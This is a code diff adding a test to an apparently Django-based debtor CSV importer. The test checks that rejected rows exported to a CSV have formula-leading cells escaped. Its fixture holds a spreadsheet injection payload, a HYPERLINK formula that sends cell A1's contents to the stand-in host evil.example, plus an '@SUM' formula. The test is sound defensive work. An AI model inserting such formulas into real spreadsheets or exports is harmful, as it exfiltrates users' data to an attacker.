@@ -169,3 +169,19 @@ def test_plain_latin1_and_utf8_files_still_read(portfolio, tmp_path):
     path = write(tmp_path, "code,name\nC3,Núñez\n", name="u.csv")
     assert run(portfolio, "debtors", path).created == 1
     assert sorted(Debtor.objects.values_list("name", flat=True)) == ["José Peña", "Muñoz", "Núñez"]
+
+
+def test_the_rejected_rows_csv_never_carries_a_formula(portfolio, tmp_path):
+    import csv
+
+    content = ('number,debtor_code,debtor_name,issue_date,due_date,amount\n'
+               'F-1,C1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")",01/01/2026,31/02/2026,100\n'
+               'F-2,C1,Ana,01/01/2026,31/01/2026,@SUM(1)\n')
+    rejected = tmp_path / "rejected.csv"
+    result = run(portfolio, "obligations", write(tmp_path, content), skip_invalid=True, rejected_path=rejected)
+    assert result.rejected == 2
+    with rejected.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows[1][2] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ver\")" and rows[1][4] == "31/02/2026"
+    assert rows[2][5] == "'@SUM(1)"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
